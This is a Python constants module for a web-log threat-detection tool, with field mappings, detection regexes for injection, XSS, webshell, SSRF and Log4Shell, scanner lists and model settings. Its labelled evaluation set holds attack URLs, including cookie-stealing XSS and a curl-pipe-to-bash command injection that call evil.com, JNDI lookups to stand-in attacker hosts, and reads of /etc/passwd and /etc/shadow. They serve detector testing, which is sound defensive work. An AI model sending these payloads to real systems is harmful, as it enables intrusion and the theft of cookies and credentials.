"""They must stay exactly as they are for results to be right.

Word lists, lookup tables, patterns, formats and constants of the log formats,
the feature definitions, the threat rules and the reports. Nothing here is
logic; every operator reads its constants from this module.
"""

from __future__ import annotations

# --- Log formats -------------------------------------------------------------

# Canonical field name -> payload keys that may hold it, in order of preference.
JSON_FIELD_MAPPING = {
    "timestamp": ["timestamp", "time", "time_local", "@timestamp"],
    "host": ["host"],
    "service": ["service"],
    "remote_addr": ["remote_addr", "remoteAddress", "ip", "client_ip"],
    "remote_user": ["remote_user", "user"],
    "request": ["request"],
    "method": ["method"],
    "path": ["path", "uri", "request_uri", "url"],
    "protocol": ["protocol"],
    "status": ["status", "statusCode"],
    "bytes_sent": ["bytes_sent", "body_bytes_sent", "responseLength"],
    "referrer": ["referrer", "referer"],
    "user_agent": ["user_agent", "http_user_agent", "userAgent"],
    "request_time": ["request_time", "responseTime"],
    "request_length": ["request_length", "requestLength"],
    "x_forwarded_for": ["x_forwarded_for", "xForwardedFor"],
    "message": ["message"],
    "level": ["level"],
}

# Field name -> names tried in turn for the first truthy value. These names are
# fixed even when the mapping above is overridden.
TRUTHY_CHAINS = {
    "timestamp": ["timestamp", "time_local", "time", "@timestamp"],
    "status": ["status", "statusCode"],
    "bytes_sent": ["bytes_sent", "body_bytes_sent", "responseLength"],
    "request_time": ["request_time", "responseTime"],
    "request_length": ["request_length", "requestLength"],
    "remote_addr": ["remote_addr", "remoteAddress", "ip"],
    "remote_user": ["remote_user", "user"],
    "path": ["path", "uri", "request_uri", "url"],
    "user_agent": ["user_agent", "userAgent", "http_user_agent"],
    "referrer": ["referrer", "referer"],
    "x_forwarded_for": ["x_forwarded_for", "xForwardedFor"],
}

# Combined log format with an optional trailing request time.
PLAIN_PATTERNS = [
    r'(?P<remote_addr>\S+) (?P<ident>\S+) (?P<remote_user>\S+) \[(?P<time_local>[^\]]+)\] '
    r'"(?P<request>[^"]*)" (?P<status>\d{3}) (?P<bytes_sent>\S+) "(?P<referrer>[^"]*)" '
    r'"(?P<user_agent>[^"]*)"(?: (?P<request_time>[\d.]+))?$'
]

REQUEST_LINE = r"([A-Z]+)\s+(\S+)(?:\s+(HTTP/[0-9.]+))?"

DEFAULT_SERVICE = "nginx"
SOURCE_FORMATS = ("jsonl", "plain")

# --- Templates ---------------------------------------------------------------

NUMBER_TOKEN = r"\b\d+\b"
PATH_HEX_TOKEN = r"\b[0-9a-fA-F]{6,}\b"
IP_TOKEN = r"\b\d{1,3}(?:\.\d{1,3}){3}\b"
HEX_TOKEN = r"\b0x[0-9a-fA-F]+\b"
UUID_TOKEN = r"\b[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}\b"

# --- Features ----------------------------------------------------------------

METHOD_CODES = {"GET": 0, "POST": 1, "PUT": 2, "DELETE": 3, "PATCH": 4, "HEAD": 5, "OPTIONS": 6}

STATIC_EXTENSIONS = [
    ".css", ".js", ".png", ".jpg", ".jpeg", ".gif", ".ico", ".svg", ".woff", ".woff2",
]

SUSPICIOUS_PATH = r"(\.\./|/\.env|/wp-admin|/wp-login|/phpmyadmin|/etc/passwd|/\.git|/admin|/login)"
SQL_KEYWORD = r"(union|select|insert|drop|or%201=1|sleep\()"
BOT_AGENT = r"(bot|crawler|spider|scrapy|curl|wget|sqlmap|nikto)"

FEATURE_NAMES = [
    "status_code",
    "status_class",
    "method_code",
    "path_length",
    "path_depth",
    "path_tokens",
    "has_query",
    "is_static",
    "bytes_log1p",
    "request_time_log1p",
    "referrer_hash",
    "user_agent_hash",
    "ip_hash",
    "hour",
    "hour_sin",
    "hour_cos",
    "weekday",
    "is_weekend",
    "has_user",
    "user_length",
    "message_length",
    "suspicious_path",
    "sql_keyword",
    "bot_ua",
    "path_template_hash",
    "request_length_log1p",
]

HASH_BUCKETS = 1000

# --- Threat rules ------------------------------------------------------------

PATH_TRAVERSAL = r"(\.\./|\.\.\\|%2e%2e|%252e)"
SQL_INJECTION = (
    r"(union\s+select|or\s+1\s*=\s*1|'\s*or\s*'|select\s+.*\s+from|insert\s+into|drop\s+table|"
    r"sleep\s*\(|benchmark\s*\(|0x[0-9a-f]+|char\s*\(|concat\s*\(|load_file\s*\(|"
    r"information_schema|%27|%22)"
)
XSS = (
    r"(<script|javascript:|on\w+\s*=|<img\s+.*onerror|<svg\s+.*onload|alert\s*\(|"
    r"document\.cookie|%3cscript|%3csvg)"
)
COMMAND_INJECTION = (
    r"(;\s*(cat|ls|id|whoami|uname|wget|curl|nc|bash|sh|python|perl|ruby)\b|"
    r"\|\s*(cat|ls|id|whoami)|`[^`]+`|\$\(.*\))"
)
WEBSHELL = (
    r"(c99|r57|webshell|cmd\.php|shell\.php|eval\s*\(|base64_decode|system\s*\(|"
    r"passthru\s*\(|exec\s*\()"
)
SSRF = (
    r"(localhost|127\.0\.0\.1|0\.0\.0\.0|169\.254\.|10\.\d|172\.(1[6-9]|2\d|3[01])\.|"
    r"192\.168\.|::1|%00|file://|gopher://|dict://|ftp://)"
)
LOG4SHELL = r"(\$\{jndi:|%24%7bjndi|%2524%257bjndi)"
SENSITIVE_PATH = (
    r"(/\.env|/\.git|/\.htaccess|/\.htpasswd|/wp-config|/config\.php|/etc/passwd|/etc/shadow|"
    r"/proc/self|/\.ssh|/\.aws|/server-status|/server-info|/phpinfo|/debug|/actuator)"
)
SCANNER_PATH = (
    r"(/wp-admin|/wp-login|/wp-content|/xmlrpc\.php|/phpmyadmin|/admin|/administrator|"
    r"/manager|/console|/cgi-bin|/\.well-known|/robots\.txt|/sitemap\.xml)"
)
SCANNER_AGENT = (
    r"(sqlmap|nikto|nmap|masscan|zgrab|gobuster|dirbuster|wpscan|acunetix|nessus|openvas|"
    r"burpsuite|python-requests|go-http-client|libwww-perl|wget|curl/\d|scrapy|httpclient)"
)
GENERIC_BOT_AGENT = r"(bot|crawler|spider|scan|harvest|extract|scrape)"
WRITE_METHODS = ["PUT", "DELETE", "TRACE", "CONNECT", "PATCH"]

# (technique_id, name, tactic) of the public MITRE ATT&CK catalog.
TECHNIQUE_CATALOG = [
    ("T1190", "Exploit Public-Facing Application", "Initial Access"),
    ("T1595", "Active Scanning", "Reconnaissance"),
    ("T1595.001", "Scanning IP Blocks", "Reconnaissance"),
    ("T1595.002", "Vulnerability Scanning", "Reconnaissance"),
    ("T1110", "Brute Force", "Credential Access"),
    ("T1110.001", "Password Guessing", "Credential Access"),
    ("T1078", "Valid Accounts", "Initial Access"),
    ("T1071.001", "Web Protocols", "Command and Control"),
    ("T1059.004", "Unix Shell", "Execution"),
    ("T1505.003", "Web Shell", "Persistence"),
    ("T1592", "Gather Victim Host Information", "Reconnaissance"),
    ("T1046", "Network Service Discovery", "Discovery"),
    ("T1498", "Network Denial of Service", "Impact"),
    ("T1499", "Endpoint Denial of Service", "Impact"),
    ("T1557", "Adversary-in-the-Middle", "Credential Access"),
    ("T1203", "Exploitation for Client Execution", "Execution"),
]

# --- Models ------------------------------------------------------------------

ANOMALY_THRESHOLD = 0.5
BASELINE_THRESHOLD = 0.85
BASELINE_QUANTILE = 0.95
FOREST_TREES = 200
FOREST_CONTAMINATION = 0.05
FOREST_SEED = 42
FOREST_SAMPLE_SIZE = 256
VERSION_FORMAT = "%Y%m%d%H%M%S"

# --- Storage and metrics -----------------------------------------------------

MAX_STORED_ANOMALIES = 1000
INGEST_BATCH_SIZE = 500
RECENT_LIMIT = 50
RECENT_LIMIT_MAX = 500

SCORE_BOUNDS = [0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.95, 1.0]
DURATION_BOUNDS = [0.01, 0.05, 0.1, 0.25, 0.5, 1.0, 2.5, 5.0, 10.0]
DASHBOARD_QUANTILES = [0.50, 0.95, 0.99]
RATE_WINDOW_SECONDS = 300
RATE_STEP_SECONDS = 15
TOP_TECHNIQUES = 20

# metric -> (upper name, lower bound) steps, highest first; below all: base name.
SEVERITY_STEPS = {
    "events_total": ("green", [("red", 50000.0), ("orange", 1000.0)]),
    "anomalies_total": ("green", [("red", 100.0), ("orange", 10.0)]),
    "anomaly_rate": ("green", [("red", 0.2), ("orange", 0.05)]),
    "score_quantile": ("green", [("red", 0.8)]),
    "technique_count": ("blue", [("red", 20.0), ("orange", 5.0)]),
}

# --- Labelled evaluation set -------------------------------------------------

ATTACK_PAYLOADS = {
    "sqli": [
        "/api/v1/users?id=1' OR 1=1--",
        "/api/v1/search?q=admin' UNION SELECT username,password FROM users--",
        "/api/v1/items?sort=name;DROP TABLE users--",
        "/api/v1/auth?user=admin'/**/OR/**/1=1--",
        "/api/v1/products?id=1 AND SLEEP(5)",
        "/api/v1/login?username=admin'--&password=x",
        "/api/v1/data?filter=1' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
        "/api/v1/reports?year=2024' OR 'x'='x",
    ],
    "xss": [
        "/api/v1/comments?text=<script>alert(document.cookie)</script>",
        "/api/v1/search?q=<img src=x onerror=alert(1)>",
        "/api/v1/profile?name=<svg/onload=fetch('https://evil.com/steal?c='+document.cookie)>",
        '/api/v1/feedback?msg="><script>new Image().src="https://evil.com/?c="+document.cookie</script>',
    ],
    "path_traversal": [
        "/api/v1/files/../../../etc/passwd",
        "/api/v1/download?file=....//....//etc/shadow",
        "/api/v1/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/api/v1/read?path=/proc/self/environ",
        "/static/..%252f..%252f..%252fetc/passwd",
    ],
    "command_injection": [
        "/api/v1/ping?host=127.0.0.1;cat /etc/passwd",
        "/api/v1/tools/lookup?domain=google.com|whoami",
        "/api/v1/convert?file=test`id`",
        "/api/v1/exec?cmd=ls%20-la%20/",
        "/api/v1/health?check=$(curl http://evil.com/shell.sh|bash)",
    ],
    "webshell": [
        "/uploads/cmd.php?cmd=id",
        "/images/c99.php",
        "/wp-content/uploads/shell.php?action=exec&cmd=whoami",
        "/tmp/backdoor.jsp?pass=admin&cmd=cat+/etc/passwd",
        "/.hidden/webshell.asp?exec=net+user",
    ],
    "ssrf": [
        "/api/v1/fetch?url=http://169.254.169.254/latest/meta-data/",
        "/api/v1/proxy?target=http://localhost:6379/INFO",
        "/api/v1/webhook?callback=http://127.0.0.1:22",
        "/api/v1/import?source=file:///etc/passwd",
        "/api/v1/preview?link=http://internal-admin.local/admin",
    ],
    "log4shell": [
        "/api/v1/login?user=${jndi:ldap://evil.com/exploit}",
        "/api/v1/search?q=${jndi:rmi://attacker.com:1099/obj}",
        "/api/v1/data?ref=${jndi:ldap://x.${hostName}.evil.com/a}",
    ],
    "scanner": [
        "/wp-admin/",
        "/wp-login.php",
        "/.env",
        "/.git/config",
        "/phpmyadmin/",
        "/admin/",
        "/actuator/env",
        "/server-status",
        "/.aws/credentials",
        "/config.php.bak",
        "/api/swagger.json",
        "/debug/vars",
        "/telescope/requests",
    ],
    "bruteforce_401": [
        "/api/v1/auth/login",
    ],
}

SCANNER_AGENTS = [
    "sqlmap/1.7#stable (https://sqlmap.org)",
    "Nikto/2.1.6",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "gobuster/3.6",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "python-requests/2.31.0 (vulnerability scanner)",
]

# category -> (percent of rows given a scanner agent, statuses to choose from).
ATTACK_CHOICES = {
    "sqli": (30, [200, 403, 500]),
    "xss": (30, [200, 403, 500]),
    "path_traversal": (0, [200, 301, 403, 500]),
    "command_injection": (30, [200, 403, 500]),
    "webshell": (0, [200]),
    "ssrf": (0, [200, 301, 403, 500]),
    "log4shell": (30, [200, 403, 500]),
    "scanner": (50, [200, 403, 404]),
    "bruteforce_401": (0, [401]),
}

TEMPLATE_SAMPLE = 100
